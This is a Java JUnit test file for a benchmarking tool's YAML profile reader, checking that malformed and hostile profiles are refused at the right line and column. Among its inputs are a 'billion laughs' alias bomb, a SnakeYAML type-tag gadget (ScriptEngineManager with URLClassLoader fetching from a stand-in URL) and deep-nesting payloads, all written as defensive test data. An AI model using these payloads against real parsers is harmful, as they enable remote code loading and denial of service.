package org.assay.profiles;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

/** Malformed and hostile profiles are refused, each problem at its line and column. */
class ProfileReaderTest {

    private static final MetricCatalog METRICS = MetricCatalog.of(List.of("cpu.dgemm", "memory.stream.triad",
            "memory.latency.chase", "cpu.fma.peak"));

    @TempDir
    Path tmp;

    private static ProfileException refused(String yaml) {
        return assertThrows(ProfileException.class, () -> new ProfileReader(METRICS).read("p.yaml", yaml));
    }

    private static void assertAt(ProfileProblem p, int line, int column, String fragment) {
        assertEquals(line, p.line(), p.toString());
        assertEquals(column, p.column(), p.toString());
        assertTrue(p.message().contains(fragment), p.toString());
    }

    @Test
    void aWellFormedProfileIsRead() {
        ProfileFile f = new ProfileReader(METRICS).read("p.yaml", """
                id: box
                kind: golden-machine
                spec:
                  cpu: { sockets: 1, cores-per-socket: 4 }
                expected:
                  - { metric: cpu.dgemm, params: { n: 512 }, value: 10.5, unit: GFLOP/s, spread: 0.2, runs: 3 }
                """);
        assertEquals("box", f.id());
        assertEquals(null, f.extendsId());
    }

    @Test
    void aValueOfTheWrongTypeIsLocatedAtTheValue() {
        ProfileException e = refused("""
                id: box
                kind: vendor-spec
                spec:
                  cpu:
                    sockets: two
                """);
        assertEquals(1, e.problems().size(), e.problems().toString());
        assertAt(e.problems().get(0), 5, 14, "spec.cpu.sockets");
        assertTrue(e.getMessage().startsWith("p.yaml:5:14: "), e.getMessage());
    }

    @Test
    void anUnknownFieldIsLocatedAtItsKey() {
        ProfileException e = refused("""
                id: box
                kind: vendor-spec
                spec:
                  cpu:
                    base-ghx: 2.4
                """);
        assertAt(e.problems().get(0), 5, 5, "unknown field 'base-ghx' in spec.cpu");
        assertTrue(e.problems().get(0).message().contains("did you mean 'base-ghz'"), e.getMessage());
    }

    @Test
    void aMissingRequiredFieldIsLocatedAtItsMapping() {
        ProfileException e = refused("""
                id: box
                kind: golden-machine
                expected:
                  - metric: cpu.dgemm
                    value: 3
                """);
        assertAt(e.problems().get(0), 4, 5, "unit");
    }

    @Test
    void everySchemaProblemIsReported() {
        ProfileException e = refused("""
                id: Box
                kind: server
                """);
        assertEquals(2, e.problems().size(), e.problems().toString());
        assertAt(e.problems().get(0), 1, 5, "id");
        assertAt(e.problems().get(1), 2, 7, "kind");
    }

    @Test
    void aYamlSyntaxErrorIsLocated() {
        ProfileException e = refused("""
                id: box
                kind: vendor-spec
                spec:
                  cpu: { sockets: 1
                """);
        ProfileProblem p = e.problems().get(0);
        assertTrue(p.message().startsWith("YAML: "), p.toString());
        assertEquals(5, p.line(), p.toString());
    }

    /** Assay's metric names are dotted, and a part may be camel case (memory.pressure.firstTouch). */
    @Test
    void aCamelCaseMetricNameIsAMetricName() {
        ProfileFile f = new ProfileReader(MetricCatalog.of(List.of("memory.pressure.firstTouch"))).read("p.yaml", """
                id: box
                kind: golden-machine
                expected:
                  - { metric: memory.pressure.firstTouch, params: { thp: huge }, value: 9.5, unit: GB/s }
                """);
        assertEquals("box", f.id());
        ProfileException e = refused("""
                id: box
                kind: golden-machine
                expected:
                  - { metric: Memory.pressure, value: 3, unit: GB/s }
                """);
        assertTrue(e.problems().get(0).message().contains("pattern"), e.problems().toString());
    }

    @Test
    void anUnknownMetricGetsTheNearestKnownName() {
        ProfileException e = refused("""
                id: box
                kind: golden-machine
                expected:
                  - metric: cpu.dgem
                    value: 3
                    unit: GFLOP/s
                """);
        assertAt(e.problems().get(0), 4, 13, "unknown metric 'cpu.dgem' (did you mean 'cpu.dgemm'?)");
    }

    @Test
    void aUnitOtherThanTheMetricsIsRefused() {
        MetricCatalog withUnits = MetricCatalog.of(List.of("cpu.dgemm", "memory.bandwidth.triad"),
                java.util.Map.of("cpu.dgemm", "GFLOP/s", "memory.bandwidth.triad", "GB/s"));
        ProfileException e = assertThrows(ProfileException.class, () -> new ProfileReader(withUnits).read("p.yaml", """
                id: box
                kind: golden-machine
                expected:
                  - { metric: cpu.dgemm, value: 3, unit: GFLOP/s }
                  - { metric: memory.bandwidth.triad, value: 3, unit: MB/s }
                acceptance:
                  rules:
                    - { metric: cpu.dgemm, min: { value: 1, unit: MFLOP/s }, max: { share-of: fp64-peak, fraction: 1 } }
                """));
        assertEquals(2, e.problems().size(), e.problems().toString());
        assertAt(e.problems().get(0), 5, 55, "unit 'MB/s' but memory.bandwidth.triad is measured in GB/s");
        assertAt(e.problems().get(1), 8, 51, "unit 'MFLOP/s' but cpu.dgemm is measured in GFLOP/s");
    }

    @Test
    void moreThanOneDocumentIsRefused() {
        ProfileException e = refused("id: a\nkind: vendor-spec\n---\nid: b\nkind: vendor-spec\n");
        assertAt(e.problems().get(0), 3, 1, "a second YAML document");
    }

    @Test
    void yamlWordsThatLookLikeBooleansStayStrings() {
        ProfileFile f = new ProfileReader(METRICS).read("p.yaml", "id: box\nkind: vendor-spec\ndescription: no\n");
        assertEquals("no", f.tree().get("description").asText());
    }

    @Test
    void aMetricNothingLikeAKnownOneGetsNoGuess() {
        ProfileException e = refused("""
                id: box
                kind: golden-machine
                acceptance:
                  rules:
                    - { metric: gpu.tensor.core, min: { value: 1, unit: TFLOP/s } }
                """);
        assertEquals("unknown metric 'gpu.tensor.core'", e.problems().get(0).message());
        assertEquals(5, e.problems().get(0).line());
    }

    @Test
    void anAliasBombIsRefused() {
        StringBuilder yaml = new StringBuilder("id: bomb\nkind: golden-machine\nsources:\n");
        yaml.append("  a0: &a0 [\"lol\", \"lol\", \"lol\", \"lol\", \"lol\", \"lol\", \"lol\", \"lol\", \"lol\"]\n");
        for (int i = 1; i <= 9; i++) {
            yaml.append("  a").append(i).append(": &a").append(i).append(" [");
            for (int j = 0; j < 9; j++) {
                yaml.append(j == 0 ? "" : ", ").append("*a").append(i - 1);
            }
            yaml.append("]\n");
        }
        ProfileException e = refused(yaml.toString());
        ProfileProblem p = e.problems().get(0);
        assertTrue(p.line() > 3, p.toString());
        assertTrue(p.message().contains("alias"), p.toString());
    }

    @Test
    void aFewAliasesThatDoNotMultiplyAreFine() {
        ProfileFile f = new ProfileReader(METRICS).read("p.yaml", """
                id: box
                kind: vendor-spec
                spec:
                  cpu: { base-ghz: &clock 2.4, all-core-boost-ghz: *clock }
                """);
        assertEquals(2.4, f.tree().at("/spec/cpu/all-core-boost-ghz").asDouble());
    }

    @Test
    void aJavaTypeTagIsRefusedNotConstructed() {
        ProfileException e = refused("""
                id: box
                kind: vendor-spec
                description: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://x/"]]]]
                """);
        assertAt(e.problems().get(0), 3, 14, "tag");
    }

    @Test
    void deepNestingIsRefusedBeforeComposing() {
        String deep = "[".repeat(5000) + "]".repeat(5000);
        ProfileException e = refused("id: box\nkind: vendor-spec\ndescription: " + deep + "\n");
        assertTrue(e.problems().get(0).message().contains("nested deeper than"), e.getMessage());
        assertEquals(3, e.problems().get(0).line());
    }

    @Test
    void duplicateKeysAreRefused() {
        ProfileException e = refused("""
                id: box
                kind: vendor-spec
                id: other
                """);
        assertAt(e.problems().get(0), 3, 1, "duplicate key 'id'");
    }

    @Test
    void aHugeFileIsRefusedWithoutParsing() throws Exception {
        Path big = tmp.resolve("big.yaml");
        Files.writeString(big, "id: box\nkind: vendor-spec\n" + "# padding\n".repeat(200_000));
        ProfileException e = assertThrows(ProfileException.class, () -> new ProfileReader(METRICS).readFile(big));
        assertTrue(e.getMessage().contains("KiB"), e.getMessage());
    }

    @Test
    void aMissingFileIsOneProblem() {
        ProfileException e = assertThrows(ProfileException.class,
                () -> new ProfileReader(METRICS).readFile(tmp.resolve("none.yaml")));
        assertEquals(tmp.resolve("none.yaml") + ": no such file", e.getMessage());
    }

    @Test
    void aBoundIsAValueWithUnitOrAShare() {
        ProfileException e = refused("""
                id: box
                kind: golden-machine
                acceptance:
                  rules:
                    - metric: cpu.dgemm
                      min: { share-of: fp64-peek, fraction: 0.5 }
                """);
        assertEquals(6, e.problems().get(0).line(), e.getMessage());
    }

    @Test
    void aNullRemovesAndIsNotASchemaError() {
        ProfileFile f = new ProfileReader(METRICS).read("p.yaml", """
                id: box
                kind: instance-type
                extends: cpu
                spec:
                  memory: { channels-per-socket: null }
                """);
        assertTrue(f.tree().at("/spec/memory/channels-per-socket").isNull());
    }

    @Test
    void aNumberBeyondADoubleIsRefusedAtItsValue() {
        // Double.parseDouble would give Infinity, and an infinite limit passes every rule
        ProfileException e = refused("""
                id: box
                kind: golden-machine
                expected:
                  - { metric: cpu.dgemm, value: 1e400, unit: GFLOP/s }
                """);
        assertAt(e.problems().get(0), 4, 33, "number 1e400 is beyond the range of a double");
    }

    @Test
    void aCountBeyondWhatTheRecordsHoldIsAProblemNotAnInternalError() {
        // beyond a long and beyond an int: both used to fail the binding with IllegalStateException
        for (String n : new String[]{"99999999999999999999999", "9999999999"}) {
            ProfileException e = refused("id: box\nkind: vendor-spec\nspec:\n  cpu: { sockets: " + n + " }\n");
            assertAt(e.problems().get(0), 4, 19, "spec.cpu.sockets = " + n + ": must have a maximum value of 1048576");
        }
    }

    @Test
    void aPlainMergeKeyIsRefusedAsAMergeKey() {
        ProfileException e = refused("id: box\nkind: vendor-spec\nspec:\n  cpu: &c { sockets: 1 }\n  memory:\n    <<: *c\n");
        assertAt(e.problems().get(0), 6, 5, "merge keys (<<) are not supported; use extends:");
        // a quoted "<<" is an ordinary (unknown) name, not a merge
        ProfileException quoted = refused("id: box\nkind: vendor-spec\nspec:\n  memory:\n    \"<<\": 1\n");
        assertTrue(quoted.problems().get(0).message().contains("unknown field '<<'"), quoted.getMessage());
    }
}
